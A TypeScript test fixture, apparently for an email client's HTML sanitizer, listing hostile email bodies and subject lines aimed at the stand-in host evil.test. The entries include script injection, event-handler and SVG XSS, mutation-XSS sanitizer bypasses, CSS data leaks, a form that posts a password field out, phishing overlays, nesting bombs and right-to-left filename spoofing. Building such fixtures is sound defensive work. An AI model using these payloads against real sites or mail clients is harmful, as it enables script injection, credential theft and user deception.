/**
 * Emails that try to run code, to fetch something, to leave their frame, or to look like something
 * else. Each names the host `evil.test`, and its scripts call `alert` and set `top.hacked`.
 */
const RUN = "top.hacked=1;alert('PWNED')";
const E = 'http://evil.test';
const ATTR = RUN.replaceAll("'", '&#39;');

/** By what each tries. */
export const HOSTILE_HTML: Readonly<Record<string, string>> = {
  'a script': `<script>${RUN}</script>`,
  'a script from elsewhere': `<script src="${E}/1.js"></script>`,
  'a module': `<script type=module>import '${E}/2.js'</script>`,
  'a script in upper case, unclosed': `<SCRIPT>${RUN}`,
  'a broken script tag': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'an error handler': `<img src=x onerror="${ATTR}">`,
  'a handler without quotes and with slashes': `<img/src=x/onerror=top.hacked=1>`,
  'a load handler on body': `<body onload="${ATTR}">x</body>`,
  'a focus handler': `<input autofocus onfocus="${ATTR}">`,
  'a toggle handler': `<details open ontoggle="${ATTR}">x</details>`,
  'an animation handler': `<style>@keyframes x{}</style><p style="animation:x" onanimationstart="${ATTR}">`,
  'a video': `<video src="${E}/3.mp4" poster="${E}/3.png" onerror="${ATTR}" autoplay></video>`,
  'an audio with sources': `<audio autoplay><source src="${E}/4.mp3" onerror="${ATTR}"></audio>`,
  'SVG with a script': `<svg><script>${RUN}</script></svg>`,
  'SVG with a load handler': `<svg onload="${ATTR}"></svg>`,
  'SVG with an animated link':
    `<svg><a><animate attributeName=href values="javascript:${ATTR}"/>` +
    `<text y=20>x</text></a></svg>`,
  'SVG use and image from elsewhere': `<svg><use href="${E}/5.svg#a"/><image href="${E}/5.png"/></svg>`,
  'SVG foreign object': `<svg><foreignObject><iframe src="${E}/6"></iframe></foreignObject></svg>`,
  'SVG as a data image':
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' ` +
    `onload='alert(1)'/>">`,
  'a form':
    `<form action="${E}/7" method=post><input name=password><button>Go</button></form>` +
    `<script>document.forms[0].submit()</script>`,
  'a form action on a button': `<form><button formaction="${E}/8" autofocus>Click</button></form>`,
  'an isindex input image': `<input type=image src="${E}/9.png">`,
  'a meta refresh': `<meta http-equiv="refresh" content="0;url=${E}/10">`,
  'a meta refresh to javascript': `<meta http-equiv="refresh" content="0;url=javascript:${ATTR}">`,
  'a policy of its own':
    `<meta http-equiv="Content-Security-Policy" content="script-src *">` +
    `<script>${RUN}</script>`,
  'a style sheet': `<link rel=stylesheet href="${E}/11.css">`,
  'a preconnect and a prefetch':
    `<link rel=preconnect href="${E}">` +
    `<link rel=dns-prefetch href="//evil.test"><link rel=prefetch href="${E}/12">` +
    `<link rel=preload as=image href="${E}/12.png">`,
  'a manifest and an icon': `<link rel=manifest href="${E}/13.json"><link rel=icon href="${E}/13.ico">`,
  'a CSS import': `<style>@import url("${E}/14.css");</style>`,
  'CSS urls':
    `<style>body{background:url(${E}/15.png);cursor:url(${E}/15.cur),auto}` +
    `li{list-style:url(${E}/15.gif)}</style><li>x`,
  'a CSS font': `<style>@font-face{font-family:x;src:url(${E}/16.woff2)}p{font-family:x}</style><p>x`,
  'an inline CSS url': `<p style="background-image:url('${E}/17.png');border-image:url(${E}/17b.png)">x`,
  'CSS that ends the style sheet': `<style></style><script>${RUN}</script><!--</style>-->`,
  'CSS with an image set': `<div style="background:image-set('${E}/18.png' 1x);height:20px">x</div>`,
  'CSS that covers the page':
    '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Sign in again</div>',
  'CSS attribute selectors that leak': `<style>input[value^=a]{background:url(${E}/19)}</style><input value=abc>`,
  'a srcdoc frame': `<iframe srcdoc="<script>${ATTR}</script><img src=${E}/20.png>"></iframe>`,
  'a frame from elsewhere': `<iframe src="${E}/21"></iframe><frameset><frame src="${E}/21b"></frameset>`,
  'a frame of this origin': `<iframe src="/v1/account"></iframe><iframe src="/dashboard/"></iframe>`,
  'an object and an embed':
    `<object data="${E}/22.swf"></object><embed src="${E}/22.pdf">` +
    `<applet code=x archive="${E}/22.jar">`,
  'a base': `<base href="${E}/"><img src="23.png"><a href="23">x</a>`,
  'a javascript link': `<a id=x href="javascript:${ATTR}">Click here</a>`,
  'a javascript link with entities': `<a href="&#106;ava&Tab;script&colon;${ATTR}">Click here</a>`,
  'a data link': `<a href="data:text/html,<script>${ATTR}</script>">Click here</a>`,
  'a link that pings': `<a href="${E}/24" ping="${E}/24b" target=_top>Click here</a>`,
  'an area of an image map':
    `<img usemap=#m width=400 height=400 alt=x><map name=m>` +
    `<area shape=rect coords=0,0,400,400 href="${E}/25" target=_top></map>`,
  'remote images':
    `<img src="${E}/26.png"><img srcset="${E}/27.png 1x"><picture>` +
    `<source srcset="${E}/28.png"><img></picture>`,
  'a background attribute': `<table background="${E}/29.png"><td background="${E}/30.png">x</table>`,
  'mXSS with noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN.replaceAll("'", '`')}>">`,
  'mXSS with math':
    `<math><mtext><table><mglyph><style><!--</style>` +
    `<img title="--&gt;&lt;img src=1 onerror=top.hacked=1&gt;">`,
  'mXSS with a form in a form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.hacked=1>`,
  'mXSS with template': `<template><s><template><s><img src=x onerror=top.hacked=1>@</s></template>`,
  'mXSS with title and textarea':
    `<title><a title="</title><img src=x onerror=top.hacked=1>">` +
    `</title><textarea></textarea><img src=x onerror=top.hacked=1>`,
  'mXSS with xmp and plaintext':
    `<xmp><p title="</xmp><img src=x onerror=top.hacked=1>"></xmp>` +
    `<plaintext><script>${RUN}</script>`,
  'CDATA in SVG': `<svg><![CDATA[><img src=x onerror=top.hacked=1>]]></svg>`,
  'a conditional comment': `<!--[if gte mso 9]><script>${RUN}</script><![endif]--><!--><script>${RUN}</script>-->`,
  'a huge table': `<table>${'<tr><td>x'.repeat(20_000)}`,
  'deep nesting': `<div>${'<div><b><i>'.repeat(30_000)}x`,
  'many distinct formatting elements':
    Array.from({ length: 3_000 }, (_, n) => `<font size=${n}>`).join('') + '<p>x'.repeat(3_000),
  'an image of itself, many times': '<img src="cid:loop@x">'.repeat(2_000),
  'a content id that is a page': `<img src="cid:page@x"><iframe src="cid:page@x"></iframe>`,
  'a popup that opens itself': `<a href="${E}/31" target=_blank autofocus>x</a><script>open('${E}/31')</script>`,
  'a download': `<a href="${E}/32" download>x</a>`,
  'a custom element': `<x-y onclick="${ATTR}">x</x-y><portal src="${E}/33"></portal><fencedframe></fencedframe>`,
};

/** Header values that try to be HTML, or to look like another text. */
export const HOSTILE_SUBJECTS: readonly string[] = [
  `<img src="${E}/s1.png" onerror="top.hacked=1">`,
  `"><script>${RUN}</script>`,
  'invoice\u202egpj.exe',
  '\u2066\u202e reversed \u2069 and \u200b hidden',
  "javascript:alert('PWNED')",
];
